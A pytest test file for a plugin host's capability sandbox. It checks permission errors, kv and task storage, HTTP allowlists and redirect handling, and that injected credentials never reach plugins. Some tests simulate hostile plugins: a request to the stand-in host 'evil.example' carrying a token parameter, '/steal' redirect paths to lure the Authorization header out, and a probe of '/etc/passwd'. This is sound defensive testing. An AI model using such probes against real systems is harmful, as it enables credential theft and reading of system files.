"""Every capability through a real component: granted, not granted, and its limits."""

from __future__ import annotations

import base64
import json
import logging
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from conftest import copy_as
from corral import PluginHost

HostFactory = Callable[..., PluginHost]
ALL = ["network.http.outbound", "config.read", "task.read_write", "kv"]
LOOPBACK = {"allow_private_networks": ["127.0.0.0/8"]}
SECRET = "s3cr3t-T0KEN-value"


class _Echo(BaseHTTPRequestHandler):
    """Answers every request with the request itself, headers included, as JSON."""

    def _answer(self) -> None:
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length).decode() if length else ""
        if self.path.startswith("/redirect?to="):
            self.send_response(302)
            self.send_header("location", self.path.removeprefix("/redirect?to="))
            self.end_headers()
            return
        payload = json.dumps(
            {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body}
        ).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("x-echo-auth", self.headers.get("authorization", ""))
        self.send_header("content-length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = do_POST = do_PUT = _answer

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def echo_servers() -> Iterator[list[str]]:
    """Two echo servers on loopback: their base URLs."""
    servers = [ThreadingHTTPServer(("127.0.0.1", 0), _Echo) for _ in range(2)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield [f"http://127.0.0.1:{s.server_address[1]}" for s in servers]
    for server in servers:
        server.shutdown()
        server.server_close()


def call(host: PluginHost, command: str, plugin: str = "hostapi", **args: Any) -> Any:
    return host.call(plugin, command, args)


@pytest.fixture
def hostapi(make_host: HostFactory) -> PluginHost:
    return make_host(
        "hostapi",
        plugins={"hostapi": {"grant": ALL, "config": {"project": "OPS", "n": 3}, "http": LOOPBACK}},
    )


# -- permission denied, for each capability ---------------------------------------------------


@pytest.mark.parametrize(
    ("command", "args", "permission"),
    [
        ("config.get-all", {}, "config.read"),
        ("kv.get", {"key": "k"}, "kv"),
        ("kv.set", {"key": "k", "value": "v"}, "kv"),
        ("tasks.query", {}, "task.read"),
        ("tasks.put-many", {"tasks": [{"title": "x"}]}, "task.write"),
        ("http", {"url": "http://127.0.0.1:9/"}, "network.http.outbound"),
    ],
)
def test_ungranted_capabilities_answer_permission_denied(
    tmp_path: Path,
    plugin_dir: Callable[..., Path],
    compiled_cache_dir: Path,
    command: str,
    args: dict[str, Any],
    permission: str,
) -> None:
    plugins = plugin_dir("hostapi")
    manifest = plugins / "hostapi" / "manifest.yaml"
    text = manifest.read_text()
    manifest.write_text(
        text.replace(
            "permissions: [network.http.outbound, config.read, task.read_write, kv]",
            "permissions: []",
        )
    )
    with PluginHost(
        plugin_dirs=[plugins], data_dir=tmp_path / "data", cache_dir=compiled_cache_dir
    ) as host:
        assert [p.state for p in host.load()] == ["loaded"]
        answer = host.call("hostapi", command, args)
    assert answer["error"] == "permission-denied"
    assert f'needs permission "{permission}"' in answer["message"]
    # Both sides are missing, and the message names both fixes, in the form the host was set up
    # with (Python arguments here, not a corral.yaml).
    assert f'add "{permission}" to permissions: in the plugin\'s manifest.yaml' in answer["message"]
    grant = f'PluginHost(plugins={{"hostapi": {{"grant": ["{permission}"]}}}})'
    assert answer["message"].endswith(f"the operator has not granted it: grant it with {grant}")
    assert "corral.yaml" not in answer["message"]
    # Granting alone changes nothing, and the message no longer suggests it.
    with PluginHost(
        plugin_dirs=[plugins],
        data_dir=tmp_path / "data",
        cache_dir=compiled_cache_dir,
        plugins={"hostapi": {"grant": [permission]}},
    ) as host:
        host.load()
        answer = host.call("hostapi", command, args)
        assert answer["error"] == "permission-denied"
        assert "the manifest does not request it" in answer["message"]
        assert "not granted" not in answer["message"]
        # logging needs no permission
        assert host.call("hostapi", "log", {"message": "still allowed"}) == {"ok": None}


# -- config and log -----------------------------------------------------------------------------


def test_config(hostapi: PluginHost) -> None:
    assert call(hostapi, "config.get-all") == {"ok": {"project": "OPS", "n": 3}}
    assert call(hostapi, "config.get", key="n") == {"ok": 3}
    assert call(hostapi, "config.get", key="missing") == {
        "error": "not-found",
        "message": "config key 'missing' is not set",
    }


def test_log_levels_fields_and_rate_limit(
    make_host: HostFactory, caplog: pytest.LogCaptureFixture
) -> None:
    host = make_host(
        "hostapi",
        plugins={"hostapi": {"grant": ALL, "log": {"lines_per_second": 1, "burst": 5}}},
    )
    with caplog.at_level(logging.DEBUG - 5, logger="corral.plugin.hostapi"):
        call(host, "log", level="warn", message="disk low", fields=[["free", "3%"]])
        call(host, "log.many", n=50)
    records = [r for r in caplog.records if r.name == "corral.plugin.hostapi"]
    assert records[0].levelno == logging.WARNING
    assert records[0].getMessage() == "disk low free=3%"
    lines = [r for r in records if r.getMessage().startswith("line ")]
    assert len(lines) == 4  # burst of 5, one used by "disk low"


# -- kv -----------------------------------------------------------------------------------------


def test_kv_round_trip_cas_and_listing(hostapi: PluginHost) -> None:
    assert call(hostapi, "kv.get", key="cursor")["error"] == "not-found"
    assert call(hostapi, "kv.set", key="cursor", value="10") == {"ok": None}
    assert call(hostapi, "kv.get", key="cursor") == {"ok": "10"}
    assert call(hostapi, "kv.cas", key="cursor", expected="9", value="11") == {"ok": False}
    assert call(hostapi, "kv.cas", key="cursor", expected="10", value="11") == {"ok": True}
    assert call(hostapi, "kv.cas", key="new", expected=None, value="1") == {"ok": True}
    for i in range(5):
        call(hostapi, "kv.set", key=f"snap/{i}", value="{}")
    first = call(hostapi, "kv.list", prefix="snap/", limit=3)["ok"]
    assert first["keys"] == ["snap/0", "snap/1", "snap/2"]
    rest = call(hostapi, "kv.list", prefix="snap/", cursor=first["next_cursor"], limit=3)["ok"]
    assert rest["keys"] == ["snap/3", "snap/4"]
    assert call(hostapi, "kv.delete", key="cursor") == {"ok": True}
    assert call(hostapi, "kv.delete", key="cursor") == {"ok": False}


def test_the_sdk_keeps_json_values_in_kv(hostapi: PluginHost) -> None:
    assert call(hostapi, "sdk.kv.get", key="cursor") == {"ok": None}
    assert call(hostapi, "sdk.kv.get", key="cursor", default={"page": 0}) == {"ok": {"page": 0}}
    cursor = {"updated": "2026-11-23T10:00:00Z", "page": 3, "done": ["a", "b"]}
    assert call(hostapi, "sdk.kv.set", key="cursor", value=cursor) == {"ok": None}
    assert call(hostapi, "sdk.kv.get", key="cursor") == {"ok": cursor}
    # Stored as compact JSON with sorted keys: what the raw import reads back.
    raw = call(hostapi, "kv.get", key="cursor")["ok"]
    assert raw == '{"done":["a","b"],"page":3,"updated":"2026-11-23T10:00:00Z"}'
    # compare_and_set matches the stored value whatever the order of the expected one's keys
    reordered = {"page": 3, "done": ["a", "b"], "updated": "2026-11-23T10:00:00Z"}
    moved = {**cursor, "page": 4}
    assert (
        call(hostapi, "sdk.kv.cas", key="cursor", expected={**cursor, "page": 2}, value=moved)["ok"]
        is False
    )
    assert call(hostapi, "sdk.kv.cas", key="cursor", expected=reordered, value=moved)["ok"] is True
    assert call(hostapi, "sdk.kv.get", key="cursor") == {"ok": moved}
    assert call(hostapi, "sdk.kv.cas", key="lease", expected=None, value=1)["ok"] is True
    assert call(hostapi, "sdk.kv.cas", key="lease", expected=None, value=2)["ok"] is False
    for i in range(5):
        call(hostapi, "sdk.kv.set", key=f"seen/{i}", value=[i])
    keys = call(hostapi, "sdk.kv.keys", prefix="seen/", page=2)["ok"]
    assert keys == [f"seen/{i}" for i in range(5)]  # three pages of at most two
    assert call(hostapi, "sdk.kv.delete", key="seen/0") == {"ok": True}
    assert call(hostapi, "sdk.kv.delete", key="seen/0") == {"ok": False}


def test_kv_limits_are_set_per_plugin(make_host: HostFactory) -> None:
    kv = {"max_value": "1KB", "max_total": "4KB"}
    host = make_host("hostapi", plugins={"hostapi": {"grant": ALL, "kv": kv}})
    too_big = call(host, "kv.set", key="blob", value="x" * 1025)
    assert too_big == {
        "error": "invalid-input",
        "message": 'kv value for "blob" is 1.0 KiB; the limit is 1 KiB per value',
    }
    for i in range(4):  # each entry counts its key and value: 1002 bytes
        assert call(host, "kv.set", key=f"k{i}", value="x" * 1000) == {"ok": None}
    full = call(host, "kv.set", key="k4", value="x" * 1000)
    assert full["error"] == "invalid-input" and "the limit is 4 KiB per plugin" in full["message"]


def test_kv_is_private_to_each_plugin(
    tmp_path: Path, plugin_dir: Callable[..., Path], compiled_cache_dir: Path
) -> None:
    plugins = plugin_dir("hostapi")
    copy_as(plugins, "hostapi", "other")
    settings = {"hostapi": {"grant": ALL}, "other": {"grant": ALL}}
    with PluginHost(
        plugin_dirs=[plugins], data_dir=tmp_path / "d", cache_dir=compiled_cache_dir,
        plugins=settings,
    ) as host:  # fmt: skip
        host.load()
        call(host, "kv.set", key="token", value="mine")
        assert call(host, "kv.get", plugin="other", key="token")["error"] == "not-found"
        assert call(host, "kv.list", plugin="other")["ok"]["keys"] == []


# -- tasks --------------------------------------------------------------------------------------


def test_tasks_through_the_boundary(hostapi: PluginHost) -> None:
    stored = call(hostapi, "tasks.put-many", tasks=[{"title": "One"}, {"title": "Two"}])["ok"]
    assert [t["version"] for t in stored] == [1, 1]
    one = stored[0]
    assert call(hostapi, "tasks.get", id=one["id"])["ok"]["title"] == "One"
    # optimistic concurrency: a stale version is a conflict value, and nothing changes
    stale = [{"id": one["id"], "title": "Uno", "expected_version": 0}, {"title": "Three"}]
    conflict = call(hostapi, "tasks.put-many", tasks=stale)
    assert conflict["error"] == "conflict" and one["id"] in conflict["message"]
    assert len(call(hostapi, "tasks.query")["ok"]["items"]) == 2
    # the change feed records who wrote
    hostapi.task_store.put_many([{"title": "From the host"}], actor="host")
    changes = call(hostapi, "tasks.changes")["ok"]["items"]
    assert [(c["op"], c["actor"]) for c in changes] == [
        ("create", "hostapi"),
        ("create", "hostapi"),
        ("create", "host"),
    ]
    # a plugin's own changes come without their task: it wrote them
    assert [c["task"] and c["task"]["title"] for c in changes] == [None, None, "From the host"]
    # links with snapshots
    snapshot = {"summary": "One", "status": "To Do"}
    link = {"task_id": one["id"], "system": "jira", "external_key": "OPS-1", "snapshot": snapshot}
    assert call(hostapi, "tasks.put-link", **link) == {"ok": None}
    got = call(hostapi, "tasks.get-link", system="jira", external_key="OPS-1")["ok"]
    assert json.loads(got["snapshot"]) == snapshot and got["task_id"] == one["id"]
    linked = call(hostapi, "tasks.query", filter={"linked": "jira"})["ok"]["items"]
    assert [t["id"] for t in linked] == [one["id"]]
    # a projection: only the task keys asked for
    ids = call(hostapi, "tasks.query", filter={"linked": "jira", "fields": ["id", "version"]})
    assert ids["ok"]["items"] == [{"id": one["id"], "version": 1}]
    unknown = call(hostapi, "tasks.query", filter={"fields": ["id", "links"]})
    assert (
        unknown["error"] == "invalid-input" and '"links" is not a task field' in unknown["message"]
    )
    not_a_list = call(hostapi, "tasks.query", filter={"fields": "id"})
    assert not_a_list["message"] == "filter.fields: expected an array of task field names"
    # a page of external keys: the linked tasks, each with the links that matched
    keys = {"system": "jira", "external_keys": ["OPS-1", "OPS-404"]}
    [found] = call(hostapi, "tasks.query", filter={"links": keys})["ok"]["items"]
    assert found["id"] == one["id"] and found["title"] == "One"
    assert [(x["external_key"], json.loads(x["snapshot"])) for x in found["links"]] == [
        ("OPS-1", snapshot)
    ]
    too_many = {"system": "jira", "external_keys": [f"K-{i}" for i in range(501)]}
    refused = call(hostapi, "tasks.query", filter={"links": too_many})
    assert refused["error"] == "invalid-input"
    assert "the most per query is 500" in refused["message"]
    assert call(hostapi, "tasks.delete", id=one["id"], expected_version=1) == {"ok": None}
    assert call(hostapi, "tasks.get", id=one["id"])["error"] == "not-found"
    assert call(hostapi, "tasks.changes")["ok"]["items"][-1]["op"] == "delete"


def test_sdk_pages_through_a_query(hostapi: PluginHost) -> None:
    stored = hostapi.task_store.put_many(
        [{"title": f"t{i}", "labels": ["x"] if i % 2 else []} for i in range(7)], actor="host"
    )
    labelled = [t.id for t in stored if t.labels]
    answer = call(hostapi, "tasks.all", page=2, filter={"label": "x"})
    assert sorted(answer["ok"]) == sorted(labelled) and len(answer["ok"]) == 3


def test_sdk_link_helpers_decode_snapshots(hostapi: PluginHost) -> None:
    [task] = hostapi.task_store.put_many([{"title": "linked"}], actor="host")
    snapshot = {"key": "T-42", "base": {"title": "linked"}}
    answer = call(hostapi, "sdk.tasks.links", task_id=task.id, snapshot=snapshot)["ok"]
    link = {"task_id": task.id, "system": "tracker", "external_key": "42", "snapshot": snapshot}
    assert answer == {"by_key": link, "by_task": [link], "gone": None}


def test_bad_task_input_is_invalid_input_naming_the_field(hostapi: PluginHost) -> None:
    answer = call(
        hostapi, "tasks.put-many", tasks=[{"title": "ok"}, {"title": "x", "due_date": "soon"}]
    )
    assert answer["error"] == "invalid-input"
    assert "due_date" in answer["message"]


# -- http ---------------------------------------------------------------------------------------


def test_http_to_loopback_needs_an_explicit_grant(
    make_host: HostFactory, echo_servers: list[str]
) -> None:
    host = make_host("hostapi", plugins={"hostapi": {"grant": ALL}})
    for url in (echo_servers[0], echo_servers[0].replace("127.0.0.1", "localhost")):
        answer = call(host, "http", url=url + "/x")
        assert answer["error"] == "permission-denied"
        assert "loopback" in answer["message"]


def test_http_allowlist_and_redirects(hostapi: PluginHost, echo_servers: list[str]) -> None:
    ok = call(hostapi, "http", method="POST", url=echo_servers[0] + "/api?q=1", body="hi")["ok"]
    assert ok["status"] == 200
    assert json.loads(ok["body"])["body"] == "hi"
    denied = call(hostapi, "http", url="https://example.com/")
    assert denied["error"] == "permission-denied"
    # a redirect from an allowed host to one outside the allowlist is refused
    bounced = call(hostapi, "http", url=echo_servers[0] + "/redirect?to=https://example.com/")
    assert bounced["error"] == "permission-denied"


def test_http_requests_per_call_limit(make_host: HostFactory, echo_servers: list[str]) -> None:
    http = {**LOOPBACK, "max_requests_per_call": 2}
    host = make_host("hostapi", plugins={"hostapi": {"grant": ALL, "http": http}})
    answer = call(host, "http.many", url=echo_servers[0], n=3)
    assert answer["error"] == "rate-limited"
    assert "more than 2 HTTP requests in one call" in answer["message"]
    # the budget is per call
    assert call(host, "http.many", url=echo_servers[0], n=2) == {"ok": [200, 200]}


# -- secrets ------------------------------------------------------------------------------------


def test_the_plugin_never_sees_the_injected_secret(
    make_host: HostFactory,
    echo_servers: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    monkeypatch.setenv("CORRAL_TEST_TOKEN", SECRET)
    bound, unbound = echo_servers
    settings = {
        "grant": ALL,
        "http": LOOPBACK,
        "config": {"endpoint": bound},
        "credentials": [
            {"hosts": [bound], "scheme": "basic", "username": "me@acme.test",
             "secret": "env:CORRAL_TEST_TOKEN"},
        ],
    }  # fmt: skip
    host = make_host("hostapi", plugins={"hostapi": settings})
    seen: list[str] = []
    with caplog.at_level(logging.DEBUG):
        # the bound host gets the credentials...
        echoed = call(host, "http", url=bound + "/whoami")["ok"]
        request = json.loads(echoed["body"])
        # ... and what it echoes back reaches the plugin masked, in the body and the headers
        assert request["headers"]["Authorization"] == "***"
        assert dict(echoed["headers"])["x-echo-auth"] == "***"
        seen.append(json.dumps(echoed))
        # the plugin cannot override them with its own header either
        forged = call(host, "http", url=bound + "/", headers=[["authorization", "Bearer mine"]])
        assert "Bearer mine" not in forged["ok"]["body"]
        seen.append(json.dumps(forged))
        # a host the secret is not bound to gets nothing
        other = call(host, "http", url=unbound + "/steal")["ok"]
        assert "authorization" not in {k.lower() for k in json.loads(other["body"])["headers"]}
        seen.append(json.dumps(other))
        # nor does a redirect from the bound host to an unbound one
        hop = call(host, "http", url=bound + "/redirect?to=" + unbound + "/steal")["ok"]
        assert "authorization" not in {k.lower() for k in json.loads(hop["body"])["headers"]}
        seen.append(json.dumps(hop))
        # config, environment, files and error messages
        seen.append(json.dumps(call(host, "config.get-all")))
        sandbox = call(host, "sandbox")["ok"]
        assert sandbox["env"] == {}
        seen.append(json.dumps(sandbox))
        seen.append(json.dumps(call(host, "http", url="https://evil.example/?t=" + "x")))
        seen.append(json.dumps(call(host, "http", url=bound.rsplit(":", 1)[0] + ":9/closed")))
    token = base64.b64encode(f"me@acme.test:{SECRET}".encode()).decode()
    for text in seen:
        assert SECRET not in text and token not in text
    for record in caplog.records:
        assert SECRET not in record.getMessage() and token not in record.getMessage()
    audit = (tmp_path / "data" / "audit.log").read_text()
    assert "/whoami" in audit
    assert SECRET not in audit and token not in audit


def test_the_sandbox_has_no_files_env_or_sockets(
    hostapi: PluginHost, echo_servers: list[str]
) -> None:
    port = echo_servers[0].rsplit(":", 1)[1]
    report = call(hostapi, "sandbox", port=int(port))["ok"]
    assert report["env"] == {}
    assert report["listdir /"].startswith("error") or report["listdir /"] == []
    assert report["listdir /etc/passwd"].startswith("error")
    # The Python guest has no socket module at all; beneath it, Wasmtime's WASI context denies
    # every socket address and name lookup unless configured otherwise (Corral never does).
    assert report["socket"].startswith("error")
